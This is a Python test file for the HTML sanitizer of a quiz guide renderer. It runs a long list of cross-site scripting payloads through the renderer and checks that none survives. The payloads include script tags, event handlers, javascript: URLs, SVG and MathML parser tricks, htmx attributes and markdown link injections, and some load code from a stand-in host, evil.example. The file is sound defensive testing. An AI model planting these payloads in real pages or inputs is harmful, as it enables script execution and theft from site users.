"""Nothing that an author writes can run, restyle the page or steer htmx."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizzes.guide import Links, page_blocks, render_block, render_content, sanitize
from quizzes.guide.format.sanitizer import ANCHOR, MATH_TAGS, SVG_TAGS, TEXT_TAGS
from quizzes.kinds import KINDS
from quizzes.kinds.content import texts_in, with_texts
from tests.kinds.samples import sample

PAYLOADS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style>*{background:url(//evil.example)}</style></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example">x</a>
<a href="/\\\\evil.example">x</a>
<a href="https://a.org" target="_blank" onclick="alert(1)" ping="//evil.example">x</a>
<body onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="//evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0">x</p>
<style>@import '//evil.example';</style>
<div hx-get="/admin/" hx-trigger="load">x</div>
<div data-hx-post="/x" hx-on:load="alert(1)" hx-vals='js:{a:alert(1)}'>x</div>
<p id="main" name="main" class="site-head btn">x</p>
<h2 id="main">x</h2>
<h2 id="s-fine" class="skip">x</h2>
<div role="alert" tabindex="5" aria-label="x">x</div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<xss onmouseover=alert(1) style=x>x</xss>
<textarea></textarea><img src=x onerror=alert(1)>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
"><img src=x onerror=alert(1)>
' onmouseover='alert(1)
{{ 7*7 }} {% debug %} ${alert(1)}
[x](javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=)
[x](https://a.org "onmouseover=alert(1)")
[x](https://a.org/"onmouseover="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://a.org/"onmouseover=alert(1)>
![x](x" onerror="alert(1))
![x](javascript:alert(1))
$\\href{javascript:alert(1)}{x}$
$\\text{<script>alert(1)</script>}$
$</annotation><script>alert(1)</script>$
$$\\style{background:url(//evil.example)}{x}$$
`<script>alert(1)</script>`
## <img src=x onerror=alert(1)>
> [!note "onmouseover=alert(1)]
""".splitlines()

FENCES = [
    '```figure x\nalt: " onload=alert(1) x="\ncaption: <script>alert(1)</script> [a](javascript:alert(1))\n```',
    "```figure x\nalt: --><script>alert(1)</script>\ncaption: x\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '| <script>alert(1)</script> |\n|---|\n| " onload=alert(1) |',
    "> [!mistake <script>alert(1)</script>]\n> x",
]
CORPUS = [*filter(None, PAYLOADS), *FENCES]

BAD_DRAWING = (
    '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script><a href="javascript:x"><text>x</text></a></svg>'
)


class Judge(HTMLParser):
    """Collects what must not be in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TEXT_TAGS | SVG_TAGS | MATH_TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith(("on", "hx-", "data-")) or name in {
                "style",
                "src",
                "srcdoc",
                "name",
                "target",
                "xlink:href",
            }:
                self.bad.append(name)
            if name == "href" and not (value or "").startswith(("https://", "http://", "/guide/", "#")):
                self.bad.append(f"{name}={value}")
            if name == "id" and not ANCHOR.fullmatch(value or ""):
                self.bad.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.bad.append(data)


def bad_parts(html: str) -> list[str]:
    return Judge(html).bad


def test_judge_sees_what_is_bad() -> None:
    assert len(bad_parts('<video src=x onerror=y><a href="javascript:x">z</a><p id="main" style="a">')) == 6


@pytest.mark.parametrize("payload", CORPUS)
def test_payload_in_the_text_of_a_page_is_harmless(payload: str) -> None:
    html = render_block(payload, Links(drawing=lambda name: BAD_DRAWING))

    assert bad_parts(html) == []


@pytest.mark.parametrize("payload", CORPUS)
@pytest.mark.parametrize("kind", sorted(KINDS))
def test_payload_in_a_question_is_harmless(kind: str, payload: str) -> None:
    content = with_texts(KINDS[kind].load(sample(kind)), lambda field, text: payload)

    rendered = KINDS[kind].load(render_content(kind, KINDS[kind].dump(content)))

    assert [part for _, text in texts_in(rendered) for part in bad_parts(text)] == []


@pytest.mark.parametrize("payload", CORPUS)
def test_payload_as_html_is_harmless(payload: str) -> None:
    assert bad_parts(sanitize(payload)) == []


@pytest.mark.parametrize("payload", CORPUS)
def test_sanitizing_twice_changes_nothing(payload: str) -> None:
    for html in (sanitize(payload), render_block(payload)):
        assert sanitize(html) == html


@given(st.text() | st.lists(st.sampled_from(CORPUS)).map("".join))
def test_any_text_is_harmless(text: str) -> None:
    html = "".join(block.html for block in page_blocks(text))

    assert bad_parts(html) == []
    assert sanitize(html) == html


def test_only_classes_of_the_renderer_stay() -> None:
    html = sanitize('<p class="label site-head">a</p><span class="k btn">b</span><svg class="skip figure-art"></svg>')

    assert html == '<p class="label">a</p><span class="k">b</span><svg class="figure-art"></svg>'


def test_nothing_is_moved_to_another_place_in_the_order_of_tab() -> None:
    assert sanitize('<div tabindex="5">a</div><div tabindex="0">b</div>') == '<div>a</div><div tabindex="0">b</div>'


def test_only_addresses_of_headings_stay() -> None:
    assert sanitize('<h2 id="main">a</h2><h2 id="s-main">b</h2><p id="s-x">c</p>') == (
        '<h2>a</h2><h2 id="s-main">b</h2><p>c</p>'
    )
